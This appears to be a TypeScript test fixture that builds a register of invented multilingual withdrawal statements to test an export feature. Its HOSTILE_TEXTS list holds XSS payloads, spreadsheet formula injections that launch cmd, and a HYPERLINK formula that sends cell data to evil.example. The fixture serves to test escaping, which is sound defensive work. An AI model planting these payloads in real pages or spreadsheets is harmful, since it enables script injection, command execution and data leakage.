import type { PlannedBatch, PlannedChange, PlannedStatement } from './export-world.js';

/** Aliases and texts in many scripts and of both directions, and such as would do harm on a page that trusts them. */
export const ALIASES = [
  'jin fu',
  'wan shun',
  'ping an',
  'qing yun',
  'ru yi',
  'chang le',
  '金福',
  '万顺',
  '平安',
  '青云',
  '如意',
  '长乐',
  '福',
  '王小明',
  'أمان',
  'نور الدين',
  'گۈلزار',
  'بەخت',
  'שלום',
  'བཀྲ་ཤིས',
  'བདེ་ལེགས',
  'สุขใจ',
  'Надежда',
  'Ἐλπίς',
  '행복',
  'さくら',
  'ᠰᠠᠢᠨ',
  'Ông Ấm',
  "O'Neil",
  'Ana-Maria',
  'J. R. R. To',
  'Ölwen Åse',
] as const;

export const HOSTILE_TEXTS = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(1)' x='",
  '</bdi></li></ol></main><h1>Closed</h1>',
  '<svg/onload=alert(1)>',
  'javascript:alert(1)',
  '&lt;b&gt; &amp; &#60;',
  '<!-- comment --> <![CDATA[ x ]]>',
  '<style>*{display:none}</style>',
  '<iframe src="https://evil.example/"></iframe>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '`\u0024{alert(1)}`',
  '{{constructor.constructor("alert(1)")()}}',
  '=HYPERLINK("https://evil.example/?"&A1,"x")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '＝1＋1',
  'https://evil.example/ www.evil.example',
  '<a href="https://evil.example/">x</a>',
] as const;

const TEXTS = [
  'I withdraw from all of it.',
  '我郑重声明退出。\n从今以后，与之无关。',
  'أعلن انسحابي من كل ما انتميت إليه.',
  'Jag lämnar organisationen.',
] as const;

type Said = Omit<PlannedStatement, 'of'>;

export interface SampleOptions {
  readonly batches?: number;
  readonly perBatch?: number;
  /** Said after the invented ones, in the last batch. */
  readonly more?: readonly Said[];
  readonly from?: string;
}

/** A register of invented statements, the same at every call: many scripts, every state an entry can be in, hostile texts. Entry n is holder n's. */
export function sampleRegister({
  batches = 5,
  perBatch = 60,
  more = [],
  from = '2026-09-28',
}: SampleOptions = {}): readonly PlannedBatch[] {
  const dayOf = (n: number): string => new Date(Date.parse(from) + n * 86_400_000).toISOString().slice(0, 10);
  let of = 0;
  return Array.from({ length: batches }, (_, b): PlannedBatch => {
    const said = Array.from({ length: perBatch + ((b * 7919) % 23) }, (_, i) => saidNumber(b * perBatch + i));
    const statements = [...said, ...(b === batches - 1 ? more : [])].map((each) => ({ ...each, of: ++of }));
    return { date: dayOf(b * 3), statements, changes: CHANGES[b] ?? [] };
  });
}

/** By batch; all of entries of the first, whose register numbers are their holders' numbers. */
const CHANGES: readonly (readonly PlannedChange[])[] = [
  [],
  [
    { of: 1, kind: 'text', by: 'holder', value: 'A text of a later day.' },
    { of: 2, kind: 'retraction', by: 'holder' },
  ],
  [
    { of: 4, kind: 'raise', by: 'registry', value: 'verified' },
    { of: 4, kind: 'name', by: 'registry', value: 'Maria Real' },
  ],
  [
    { of: 3, kind: 'removal', by: 'registry' },
    { of: 5, kind: 'raise', by: 'registry', value: 'contact' },
  ],
];

function saidNumber(n: number): Said {
  const name = ALIASES[n % ALIASES.length] ?? '';
  const text =
    n % 5 === 4 ? HOSTILE_TEXTS[((n / 5) | 0) % HOSTILE_TEXTS.length] : n % 3 === 0 ? TEXTS[((n / 3) | 0) % TEXTS.length] : undefined;
  const evidence = n < 6 || n % 4 !== 0 ? 'stated' : n % 8 === 0 ? 'verified' : 'contact';
  return {
    name,
    categories: n % 3 === 0 ? ['party'] : n % 3 === 1 ? ['league', 'pioneers'] : ['league'],
    evidence,
    origin: n % 7 === 6 ? 'import' : 'live',
    display: evidence === 'verified' && n % 16 === 0 ? 'name' : 'alias',
    period: n % 7 === 6 ? 'earlier' : '2026-09',
    text: text ?? '',
  };
}
